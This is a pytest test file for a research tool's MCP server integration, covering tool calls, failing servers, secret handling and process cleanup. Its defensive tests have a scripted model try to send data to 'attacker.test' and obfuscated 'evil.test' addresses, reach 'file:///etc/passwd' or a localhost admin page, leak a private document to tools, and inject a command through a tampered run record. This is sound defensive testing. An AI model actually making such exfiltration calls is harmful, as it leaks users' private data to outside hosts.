"""Whole runs with MCP servers: real programs and real HTTP, a scripted model or none, and what goes wrong."""

import asyncio
import json
import os
import shutil
import signal
import sys
import threading
import time
from collections import Counter
from collections.abc import Mapping, Sequence
from pathlib import Path
from typing import Any

import pytest

from deep_research.assembly import mcp_tools
from deep_research.assembly.environment import RunEnvironment
from deep_research.assembly.mcp_tools import NamedAddresses
from deep_research.data.outside_tools import McpServer
from deep_research.errors import Blocked, ConfigError
from deep_research.runs.research_run import create_run, resume_run
from deep_research.settings import Settings
from deep_research.stores.run_folder import RunFolder, list_runs, write_atomically
from deep_research.stores.sqlite_library import SqliteLibrary
from deep_research.worker_child import Limits
from tests.cli.terminal import told
from tests.mcp.serving import HIDDEN, is_gone, pids, served_http, stdio
from tests.model.harness import served
from tests.runs.running import Ran, start, write_notes
from tests.runs.soundness import assert_sound
from tests.support.scripted_replies import Call, Reply, Request
from tests.support.scripted_researcher import ScriptedResearcher, passages_in, step_of

QUESTION = "Compare the Alpha engine, the Beta engine and the Gamma engine"
ENGINES = ("Alpha engine", "Beta engine", "Gamma engine")
MODEL = {"model_provider": "compatible", "model_name": "scripted"}


class ToolUser(ScriptedResearcher):
    """A researcher that makes these tool calls in its first turns instead of searches."""

    def __init__(self, *turns: Sequence[Call]) -> None:
        super().__init__(sections={name: [name] for name in ENGINES}, sentences=4)
        self._turns = turns

    def _research(self, request: Request) -> Reply:
        # The searches of the plan come first, without being asked for.
        made = sum(bool(message["tool_calls"]) for message in request["messages"]) - 1
        if made < len(self._turns):
            title = self.section_of(request)
            calls = [Call(c.name, _filled(c.arguments, title.split()[0])) for c in self._turns[made]]
            return Reply(tool_calls=tuple(calls))
        best = [shown.id for shown in passages_in(request)][:8]
        return Reply(tool_calls=(Call("research_complete", {"passages": best}),))


def _filled(arguments: Mapping[str, Any] | str, engine: str) -> Mapping[str, Any] | str:
    return json.loads(json.dumps(arguments).replace("ENGINE", engine)) if isinstance(arguments, Mapping) else arguments


FIND = Call("search_stories", {"query": "ENGINE"})


def research(
    home: Path, servers: Mapping[str, Any], *, docs: Sequence[Path] = (), given: Mapping[str, Any] = {}, **settings: Any
) -> Ran:
    """Do a whole run with these servers."""
    values = {"allow_clarification": False, "model_provider": "finder", "mcp_servers": servers, **settings}
    made = Settings.model_validate(values)
    ran = Ran(create_run(QUESTION, made, home=home, docs=[str(d) for d in docs]), home)
    return go_on(ran, mcp_servers=made.mcp_servers, **given)


def go_on(ran: Ran, **given: Any) -> Ran:
    environment = RunEnvironment(ran.home, listener=ran.events.append, **given)
    ran.finished = asyncio.run(resume_run(ran.folder, environment))
    return ran


def _calls(file: Path) -> list[str]:
    return [line for line in file.read_text().splitlines() if not line.startswith("started")] if file.exists() else []


def _assert_gone(file: Path) -> None:
    """The programs that noted their start in `file` end: the one of a killed run when it finds its input closed."""
    end = time.monotonic() + 20
    while not all(map(is_gone, pids(file))) and time.monotonic() < end:
        time.sleep(0.05)
    assert all(map(is_gone, pids(file)))


def _why(ran: Ran) -> str:
    return "\n".join(f"{gap.source} | {gap.what} | {gap.why}" for gap in ran.report.gaps)


def test_d7_a_model_calls_tools_and_cites_what_they_answer(own_state: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    calls = own_state.parent / "calls"
    script = ToolUser([FIND], [Call("get_story", {"story_id": "101"}), Call("pocket_open", {"query": "ENGINE"})])
    with served(monkeypatch, script) as provider:
        ran = research(own_state, {"pocket": stdio(calls)}, mcp_prompt="Ask the stories before all else.", **MODEL)
        asked = [one.request for one in provider.calls]
    assert_sound(ran.report, ran.folder)
    assert ran.report.answered
    cited = {ran.report.sources[reference.source].origin for reference in ran.report.references}
    assert cited == {"mcp:pocket"}
    assert any("needs service every 200 hours" in passage.text for passage in ran.report.passages.values())
    assert any(reference.url.endswith("/engine") for reference in ran.report.references)
    prompts = [request["prompt"] for request in asked if step_of(request) == "research"]
    assert all("Ask the stories before all else." in prompt for prompt in prompts)
    assert all(count == 1 for count in Counter(_calls(calls)).values())
    assert "get_story 101" in _calls(calls)
    _assert_gone(calls)


def test_d7_broken_servers_cost_only_themselves_and_are_named(own_state: Path) -> None:
    calls, unfit = own_state.parent / "calls", own_state.parent / "unfit.py"
    unfit.write_text(UNFIT)
    with served_http() as refusing:
        refusing.answer = (401, "text/plain", b"who are you")
        ran = research(
            own_state,
            {
                "good": stdio(calls, tools=["search_stories"]),
                "odd": {"command": sys.executable, "args": [str(unfit)]},
                "silent": stdio(fault="silent", timeout_seconds=1),
                "broken": stdio(fault="start"),
                "absent": {"command": "no-such-program"},
                "refusing": {"url": refusing.url},
                "keyless": {"url": refusing.url, "headers": {"Authorization": "Bearer $NO_SUCH_VARIABLE"}},
                "choosy": stdio(tools=["search_stories", "fly"]),
            },
            workflow="quick",
        )
    assert_sound(ran.report, ran.folder)
    assert "3,000 rpm" in ran.report.report
    told = _why(ran)
    for why in (
        "'silent' did not answer within 1 seconds",
        "'broken' has ended the connection (no module named engines)",
        "'absent' cannot be started: No such file or directory: no-such-program",
        "'refusing' answered HTTP 401",
        "'keyless': it is not ready: set NO_SUCH_VARIABLE",
        "'choosy': it has no tool named fly",
        "'odd': left out, because their schemas are not those of objects: words, nothing, None, ?, coins",
    ):
        assert why in told, told
    assert "no module named engines" not in "".join(section.notes for section in ran.report.sections)
    _assert_gone(calls)


UNFIT = """
import json, sys
OBJECT = {"type": "object", "properties": {"query": {"type": "string"}}, "required": ["query"]}
TOOLS = [{"name": "search", "inputSchema": OBJECT, "outputSchema": {"type": "array"}}, {"name": "words", "inputSchema": {"type": "string"}},
         {"name": "nothing"}, {"inputSchema": OBJECT}, 7, {"name": "untyped", "inputSchema": {"properties": {}}},
         {"name": "coins", "inputSchema": {"type": "object", "properties": {"coin": {"type": "string"}, "required": ["coin"]}}}]
for line in sys.stdin:
    asked = json.loads(line)
    about = {"protocolVersion": "2025-06-18", "capabilities": {"tools": {}}, "serverInfo": {"name": "x", "version": "1"}}
    said = {"content": [{"type": "text", "text": "The Alpha engine turns at 3,000 rpm."}]}
    answers = {"initialize": about, "tools/list": {"tools": TOOLS}, "tools/call": said}
    if "id" in asked:
        answer = {"jsonrpc": "2.0", "id": asked["id"], "result": answers.get(asked["method"], {})}
        print(json.dumps(answer), flush=True)
"""


BREAKING = {
    "crash": "has ended the connection",
    "tool_error": "the index of stories is on fire",
    "brackets": "What it answered was not read",
}


def test_d7_a_server_that_breaks_in_a_run_is_a_gap_and_never_evidence(
    own_state: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(mcp_tools, "limits_of", lambda _: Limits(memory=500_000_000, cpu_seconds=1.0))
    calls = {fault: own_state.parent / fault for fault in BREAKING}
    notes = write_notes(own_state.parent / "notes", alpha="# Alpha engine\n\nThe Alpha engine costs 400 euros.\n")
    found = [Call(f"{fault}_search_stories", {"query": "ENGINE"}) for fault in BREAKING]
    script = ToolUser([*found, Call("search", {"query": "ENGINE engine", "source": "documents"})])
    with served(monkeypatch, script):
        ran = research(own_state, {fault: stdio(calls[fault], fault) for fault in BREAKING}, docs=[notes], **MODEL)
    assert_sound(ran.report, ran.folder)
    assert "400 euros" in ran.report.report
    for fault, why in BREAKING.items():
        assert any(f"mcp:{fault}:" in gap.source and why in gap.why for gap in ran.report.gaps), (fault, _why(ran))
        assert not [p for p in ran.report.passages.values() if why in p.text]
        _assert_gone(calls[fault])
    assert {source.origin for source in ran.report.sources.values()} >= {"documents"}


def test_d7_calls_that_cannot_be_made_are_told_and_no_tool_is_given_an_address_that_nobody_has_named(
    own_state: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    calls = own_state.parent / "calls"
    away = "http://attacker.test/?q=what+you+know"
    script = ToolUser(
        [Call("open_page", {"url": away}), Call("open_page", {"url": "attacker.test/secret"})],
        [Call("search_stories", "{not json"), Call("no_such_tool", {"a": 1}), Call("draw", {}), FIND],
        [Call("open_page", {"url": "https://alpha.test/engine"}), Call("draw", {"engine": f"like {away}"})],
    )
    with served(monkeypatch, script) as provider:
        ran = research(own_state, {"pocket": stdio(calls)}, **MODEL)
        said = "\n".join(one.request["prompt"] for one in provider.calls)
    assert "the arguments of search_stories were no JSON object" in said
    assert "there is no tool named no_such_tool" in said
    assert "The tool 'draw' of the MCP server 'pocket' failed" in said
    assert_sound(ran.report, ran.folder)
    assert not [line for line in _calls(calls) if "attacker" in line]
    assert "open_page https://alpha.test/engine" in _calls(calls)
    assert f"Nobody has named the address '{away}'" in _why(ran)


_KNOWN = "http://known.test/page"


@pytest.mark.parametrize(
    "arguments",
    [
        *({"url": url} for url in (
            "https:evil.test/?q=S", f"//evil.test/#{_KNOWN}", f"https:\\\\evil.test\\?q=S#{_KNOWN}", f"ht\ntp://evil.test/#{_KNOWN}",
            f"evil.test/?x={_KNOWN}", "file:///etc/passwd", "localhost:8080/admin", "evil%2etest/?q=S", "evil\u3002test/?q=S",
        )),
        {"pageUrl": "evil.test/?q=S"}, {"hostname": "secret.evil.test"}, {"options": {"url": "evil.test/?q=S"}},
        {"urls": [_KNOWN, "evil.test/?q=S"]}, {"input": "https:evil.test/?q=S"},
    ],
)  # fmt: skip
def test_d7_an_address_that_nobody_has_named_is_seen_in_every_form(arguments: dict[str, Any]) -> None:
    named = NamedAddresses(f"What does {_KNOWN} say?", SqliteLibrary(":memory:"))
    named.check(
        {"url": _KNOWN, "text": f"Read {_KNOWN} and tell: what costs 4/5?", "site": "en", "title": "Python: how to"}
    )
    with pytest.raises(Blocked, match="Nobody has named"):
        named.check(arguments)


def test_d7_what_repeats_a_document_is_given_to_no_tool_whatever_its_name(
    own_state: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    calls, secret = tmp_path / "calls", "the Helios board has decided to sell the Alpha engine to nobody but Rolf"
    (tmp_path / "plans").mkdir()
    (tmp_path / "plans" / "plan.md").write_text(f"# Alpha engine\n\nIn May {secret}.\n")
    told = [
        Call(name, {"text": secret.replace(" ", joint)}) for name, joint in (("documents", " "), ("get_story", "\n"))
    ]
    script = ToolUser([Call("search", {"queries": ["Alpha engine"], "source": "documents"})], told)
    with served(monkeypatch, script):
        ran = research(own_state, {"pocket": stdio(calls)}, docs=[tmp_path / "plans"], **MODEL)
    assert "Helios" not in calls.read_text()
    held = {query.place for query in ran.report.queries if query.held_back == "words"}
    assert held == {"tool:documents", "tool:get_story"}


def test_d7_secrets_reach_the_server_and_never_the_disk(own_state: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("POCKET_TOKEN", HIDDEN)
    script = ToolUser([Call("a_environment", {}), Call("b_search_stories", {"query": "ENGINE"})])
    with served(monkeypatch, script), served_http() as pocket:
        servers = {
            "a": stdio(env={"ENGINE_TOKEN": "$POCKET_TOKEN", "API_KEY": f"plain-{HIDDEN}"}),
            "b": {"url": f"{pocket.url}?key=${{POCKET_TOKEN}}", "headers": {"Authorization": "Bearer $POCKET_TOKEN"}},
        }
        ran = research(own_state, servers, **MODEL)
        assert {seen["authorization"] for seen in pocket.seen} == {f"Bearer {HIDDEN}"}
    text = " ".join(passage.text for passage in ran.report.passages.values()) + _why(ran)
    kept = [file for file in own_state.rglob("*") if file.is_file()]
    assert len(kept) > 3
    assert not [file for file in kept if HIDDEN.encode() in file.read_bytes()]
    assert HIDDEN not in text + ran.report.model_dump_json()


def test_d7_a_run_keeps_the_names_of_servers_and_starts_those_of_today(
    own_state: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A record that somebody else wrote cannot name a command."""
    marks = own_state.parent
    settings = Settings(
        allow_clarification=False,
        model_provider="finder",
        workflow="quick",
        mcp_servers={"pocket": McpServer.model_validate(stdio()), "gone": McpServer.model_validate(stdio())},
    )
    folder = create_run(QUESTION, settings, home=own_state)
    record = json.loads((folder.path / "run.json").read_text())
    assert record["mcp_servers"] == ["pocket", "gone"]
    assert "mcp_servers" not in record["settings"]
    evil = {"command": sys.executable, "args": ["-c", f"open({str(marks / 'started')!r}, 'w')"]}
    record["settings"]["mcp_servers"] = {"pocket": evil, "evil": evil}
    write_atomically(folder.path / "run.json", json.dumps(record))
    _write_config(marks / "mine.toml", pocket=stdio(marks / "calls", tools=["search_stories"]))
    monkeypatch.setenv("DEEP_RESEARCH_CONFIG", str(marks / "mine.toml"))
    ran = go_on(Ran(folder, own_state))
    assert not (marks / "started").exists()
    assert _calls(marks / "calls")
    assert "'gone': it is not among the settings any more" in _why(ran)


def _write_config(path: Path, **servers: Mapping[str, Any]) -> Path:
    lines = [
        f"[mcp_servers.{name}]\n" + "\n".join(f"{k} = {_toml(v)}" for k, v in s.items()) for name, s in servers.items()
    ]
    path.write_text("\n".join(lines) + "\n")
    return path


def _toml(value: Any) -> str:
    if isinstance(value, Mapping):
        return "{" + ", ".join(f"{name} = {_toml(part)}" for name, part in value.items()) + "}"
    return json.dumps(value)


ASKED = (QUESTION, "-p", "compatible", "--model", "scripted", "--quiet")


def test_d7_after_kill_9_a_run_goes_on_and_makes_no_tool_call_twice(
    own_state: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    calls = own_state.parent / "calls"
    researcher = ToolUser([FIND], [Call("pocket_open", {"query": "ENGINE"})])
    held, reached, writing = threading.Event(), threading.Semaphore(0), set[str]()

    def script(request: Request) -> Reply:
        reply = researcher(request)
        if step_of(request) == "notes" and not held.is_set():
            section = researcher.section_of(request)
            if section not in writing:  # a slow call is asked a second time
                writing.add(section)
                reached.release()
            return Reply(data=reply.data, latency_seconds=600)
        return reply

    config = _write_config(own_state.parent / "mine.toml", pocket=stdio(calls))
    with served(monkeypatch, script):
        first = start(ASKED, DEEP_RESEARCH_CONFIG=config)
        for _ in ENGINES:
            assert reached.acquire(timeout=60)
        first.send_signal(signal.SIGKILL)
        first.communicate()
        before = _calls(calls)
        assert len(before) >= 2 * len(ENGINES)
        held.set()
        run_id = list_runs(own_state)[0].run_id
        second = start(["resume", run_id, "--quiet"], DEEP_RESEARCH_CONFIG=config)
        _, said = second.communicate(timeout=100)
        assert second.returncode == 0, said.decode()
    assert _calls(calls) == before
    folder = RunFolder(own_state, run_id)
    assert_sound(folder.load_result(), folder)
    assert {source.origin for source in folder.load_result().sources.values()} == {"mcp:pocket"}
    _assert_gone(calls)


def test_d7_a_run_that_is_stopped_leaves_no_program_behind(own_state: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    calls, pipe = own_state.parent / "calls", own_state.parent / "pipe"
    os.mkfifo(pipe)
    config = _write_config(own_state.parent / "mine.toml", pocket=stdio(calls, "hang", env={"REACHED": str(pipe)}))
    with served(monkeypatch, ToolUser([FIND])):
        running = start(ASKED, DEEP_RESEARCH_CONFIG=config)
        assert pipe.read_text().startswith("reached")
        running.send_signal(signal.SIGINT)
        _, said = running.communicate(timeout=60)
    assert running.returncode == 130, said.decode()
    assert b"Traceback" not in said
    _assert_gone(calls)


def test_d7_without_the_sdk_the_error_says_what_to_install(own_state: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setitem(sys.modules, "mcp", None)
    with pytest.raises(ConfigError, match=r"pip install 'deep-research\[mcp\]'"):
        research(own_state, {"pocket": stdio()})


def test_e1_the_command_lists_servers_ready_or_not_and_their_tools(own_state: Path) -> None:
    config = _write_config(
        own_state.parent / "mine.toml",
        pocket=stdio(),
        keyless={"url": "https://keyless.test/mcp", "headers": {"Authorization": "Bearer $NO_SUCH_VARIABLE"}},
        absent={"command": "no-such-program"},
    )
    env = {"DEEP_RESEARCH_CONFIG": str(config)}
    plain = told("sources", env=env)
    assert plain.code == 0, plain.err
    assert "not ready: set NO_SUCH_VARIABLE" in plain.out
    assert "not ready: there is no program no-such-program" in plain.out
    checked = told("sources", "--check", "--json", env=env).json["mcp_servers"]
    assert [(row["name"], row["ready"]) for row in checked] == [("pocket", True), ("keyless", False), ("absent", False)]
    assert checked[0]["tools"] == {
        "search_stories": "searched", "get_story": "offered", "open_page": "offered", "open": "searched",
        "publish_story": "not offered: it changes something", "draw": "offered", "grade": "offered", "environment": "offered", "documents": "offered",
    }  # fmt: skip
    assert shutil.which("no-such-program") is None
